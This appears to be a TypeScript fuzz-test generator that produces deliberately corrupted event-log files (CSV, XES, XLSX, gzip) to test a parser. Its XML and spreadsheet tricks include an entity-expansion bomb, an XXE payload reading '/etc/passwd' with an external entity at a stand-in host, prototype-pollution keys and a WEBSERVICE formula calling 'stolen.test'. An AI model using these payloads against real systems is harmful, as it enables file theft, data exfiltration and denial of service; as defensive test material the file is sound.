import { gzipSync } from 'node:zlib'
import { strToU8, unzipSync, zipSync } from 'fflate'
import { writeXlsx } from 'hucre/xlsx'
import { HOSTILE_TEXTS } from './hostile-texts.ts'
import type { Chance } from './random.ts'

/** A file of journey data that was spoilt, and in which ways. */
export interface HostileLog {
  readonly name: string
  readonly bytes: Uint8Array
  readonly spoilt: readonly string[]
}

type Table = readonly (readonly string[])[]

const HEAD = ['customer_id', 'event', 'timestamp', 'plan', 'amount', 'nps'] as const
const STATES = ['Visit', 'Sign up', 'Purchase', 'Support', 'Cancel'] as const

/** What no honest program writes into a cell, beside {@link HOSTILE_TEXTS}: keys of objects, numbers, times, signs. */
const ODD_CELLS: readonly string[] = [
  '__proto__',
  'constructor',
  'toString',
  'hasOwnProperty',
  'prototype',
  '1e308',
  '-1.7976931348623157e308',
  '9'.repeat(400),
  'NaN',
  'Infinity',
  '-0',
  '0x10',
  '1000-01-01',
  '9999-12-31T23:59:59.999Z',
  '0000-00-00',
  '2024-02-30',
  '275760-09-13',
  '99999999999999999999',
  '\u0000',
  '"',
  '""',
  '"\n',
  '\r',
  '\ud800',
  '\u2028',
  'x'.repeat(700),
  'x'.repeat(40_000),
]

const oddCell = (chance: Chance): string =>
  chance.happens(0.5) ? chance.pick(ODD_CELLS) : chance.pick(HOSTILE_TEXTS)

function soundTable(chance: Chance): Table {
  const rows = Array.from({ length: 20 + chance.whole(60) }, (_, at) => {
    const day = String(1 + chance.whole(28)).padStart(2, '0')
    return [
      `cust-${100 + (at % 12)}`,
      chance.pick(STATES),
      `2024-0${1 + chance.whole(9)}-${day}T10:00:00Z`,
      chance.pick(['free', 'team', 'firm', '']),
      String(chance.whole(500)),
      chance.happens(0.3) ? String(chance.whole(11)) : '',
    ]
  })
  return [HEAD, ...rows]
}

/** Headings and cells that somebody wrote to do harm, rows with too few or too many cells. */
function spoiltTable(table: Table, chance: Chance, spoilt: string[]): Table {
  const rows = table.map((row) => [...row])
  const anyRow = (): string[] => rows[chance.whole(rows.length)] ?? []
  if (chance.happens(0.5)) {
    spoilt.push('cells')
    for (let turn = chance.whole(20); turn >= 0; turn--) {
      const row = anyRow()
      row[chance.whole(row.length)] = oddCell(chance)
    }
  }
  if (chance.happens(0.25)) {
    spoilt.push('headings')
    const head = rows[0] ?? []
    for (let turn = chance.whole(4); turn >= 0; turn--) head[chance.whole(head.length)] = oddCell(chance)
  }
  if (chance.happens(0.3)) {
    spoilt.push('widths')
    for (let turn = chance.whole(8); turn >= 0; turn--) {
      const row = anyRow()
      if (chance.happens(0.5)) row.length = chance.whole(row.length + 1)
      else row.push(...Array.from({ length: chance.whole(300) }, () => ''), 'beyond')
    }
  }
  if (chance.happens(0.2)) {
    spoilt.push('a column of one thing')
    const [column, cell] = [chance.whole(HEAD.length), oddCell(chance)]
    for (const row of rows.slice(1)) row[column] = cell
  }
  return rows
}

/** As a careful program writes it, or without any quotation marks, so that signs in cells part them. */
function asText(table: Table, sign: string, chance: Chance): string {
  const isCareful = chance.happens(0.6)
  const cell = (text: string): string =>
    isCareful && /["\r\n,;\t|]/.test(text) ? `"${text.replaceAll('"', '""')}"` : text
  const end = chance.pick(['\n', '\r\n', '\r'])
  return table.map((row) => row.map(cell).join(sign)).join(end)
}

const escaped = (text: string): string =>
  text.replace(/[&<"\p{Cc}\p{Cs}]/gu, (letter) =>
    letter === '&' ? '&amp;' : letter === '<' ? '&lt;' : '&quot;',
  )

function asXes(table: Table, chance: Chance, spoilt: string[]): string {
  const [head = [], ...rows] = table
  const attribute = (key: string, value: string, tag = 'string'): string =>
    `<${tag} key="${escaped(key)}" value="${escaped(value)}"/>`
  const traces = Map.groupBy(rows, ([id = '']) => id)
  const event = (row: readonly string[]): string =>
    `<event>${attribute('concept:name', row[1] ?? '')}${attribute('time:timestamp', row[2] ?? '', 'date')}${row
      .slice(3)
      .map((cell, at) => attribute(head[at + 3] ?? '', cell))
      .join('')}</event>`
  const body = [...traces]
    .map(([id, its]) => `<trace>${attribute('concept:name', id)}${its.map(event).join('')}</trace>`)
    .join('')
  const whole = `<?xml version="1.0"?><log xes.version="1.0">${body}</log>`
  if (!chance.happens(0.5)) return whole
  const [what, change] = chance.pick(XML_TRICKS)
  spoilt.push(what)
  return change(whole)
}

/** What is done to documents of XML. */
const XML_TRICKS: readonly (readonly [what: string, change: (xml: string) => string])[] = [
  ['a tag that is not closed', (xml) => xml.replace('</trace>', '')],
  ['one tag too many', (xml) => xml.replace('</event>', '</event></event>')],
  ['elements nested 5,000 deep', (xml) => xml.replace('<event>', `<event>${'<list key="a">'.repeat(5000)}`)],
  [
    'entities that unfold',
    (xml) =>
      xml
        .replace(
          '<log',
          `<!DOCTYPE log [<!ENTITY a "${'ha'.repeat(99)}"><!ENTITY b "${'&a;'.repeat(99)}"><!ENTITY c "${'&b;'.repeat(99)}">]><log`,
        )
        .replace('value="', 'value="&c;'),
  ],
  [
    'an entity from elsewhere',
    (xml) =>
      xml.replace(
        '<log',
        '<!DOCTYPE log SYSTEM "file:///etc/passwd" [<!ENTITY x SYSTEM "//stolen.test/e">]><log',
      ),
  ],
  ['an entity nobody declared', (xml) => xml.replace('value="', 'value="&bogus;')],
  ['the same attribute twice', (xml) => xml.replace('key="', 'key="b" key="')],
  [
    'a key of an object',
    (xml) => xml.replaceAll('key="event"', 'key="__proto__"').replace('key="', 'key="__proto__'),
  ],
]

async function asBook(table: Table, chance: Chance, spoilt: string[]): Promise<Uint8Array> {
  const book = await writeXlsx({ sheets: [{ name: 'Data', rows: table.map((row) => [...row]) }] })
  if (!chance.happens(0.6)) return book
  // With the right sums, so that whoever reads gets as far as the part itself.
  const parts = unzipSync(book)
  const name = chance.pick(Object.keys(parts))
  const part = parts[name] ?? new Uint8Array()
  spoilt.push(`the part ${name}`)
  if (chance.happens(0.3)) delete parts[name]
  else if (chance.happens(0.5)) parts[name] = spoiltBytes(part, chance, spoilt)
  else parts[name] = strToU8(BOOK_TRICKS.reduce((xml, change) => change(xml), new TextDecoder().decode(part)))
  return zipSync(parts)
}

/** Places that no sheet has, texts that are not there, formulas, numbers that are none. */
const BOOK_TRICKS: readonly ((xml: string) => string)[] = [
  (xml) => xml.replace(/r="B3"/, 'r="ZZZZZZ3"'),
  (xml) => xml.replace(/r="C4"/, 'r="__proto__"'),
  (xml) => xml.replace(/<v>1<\/v>/g, '<v>99999999</v>'),
  (xml) => xml.replace(/<row r="5"/, '<row r="4294967299"'),
  (xml) =>
    xml.replace(
      '<sheetData>',
      '<sheetData><row r="1"><c r="A1"><f>WEBSERVICE("http://stolen.test")</f><v>1e999</v></c></row>',
    ),
]

function spoiltBytes(bytes: Uint8Array, chance: Chance, spoilt: string[]): Uint8Array<ArrayBuffer> {
  const changed = Uint8Array.from(bytes)
  const at = (): number => chance.whole(changed.length)
  switch (chance.whole(5)) {
    case 0:
      spoilt.push('bytes flipped')
      for (let turn = chance.whole(30); turn >= 0; turn--) changed[at()] = chance.whole(256)
      return changed
    case 1:
      spoilt.push('cut off')
      return changed.slice(0, at())
    case 2:
      spoilt.push('zeros')
      return changed.fill(0, at(), at())
    case 3: {
      spoilt.push('spliced')
      const [one, other] = [at(), at()]
      return Uint8Array.from([...changed.subarray(0, one), ...changed.subarray(other)])
    }
    default:
      spoilt.push('a piece twice')
      return Uint8Array.from([...changed, ...changed.subarray(at())])
  }
}

const SIGNS = { csv: ',', tsv: '\t', txt: ';' } as const

/** A file of journey data, spoilt in some ways: the same for the same chance. */
export async function hostileLog(chance: Chance): Promise<HostileLog> {
  const spoilt: string[] = []
  const table = spoiltTable(soundTable(chance), chance, spoilt)
  const kind = chance.pick(['csv', 'csv', 'tsv', 'txt', 'xes', 'xlsx'] as const)
  let bytes: Uint8Array
  if (kind === 'xlsx') bytes = await asBook(table, chance, spoilt)
  else if (kind === 'xes') bytes = strToU8(asXes(table, chance, spoilt))
  else {
    const text = asText(table, SIGNS[kind], chance)
    const isWide = chance.happens(0.15)
    if (isWide) spoilt.push('UTF-16')
    bytes = isWide ? Uint8Array.from(Buffer.from(`\ufeff${text}`, 'utf16le')) : strToU8(text)
  }
  if (chance.happens(0.3)) bytes = spoiltBytes(bytes, chance, spoilt)
  const isPacked = chance.happens(0.2)
  if (isPacked) {
    bytes = Uint8Array.from(gzipSync(bytes))
    if (chance.happens(0.4)) bytes = spoiltBytes(bytes, chance, spoilt)
  }
  return { name: `events.${kind}${isPacked ? '.gz' : ''}`, bytes, spoilt }
}
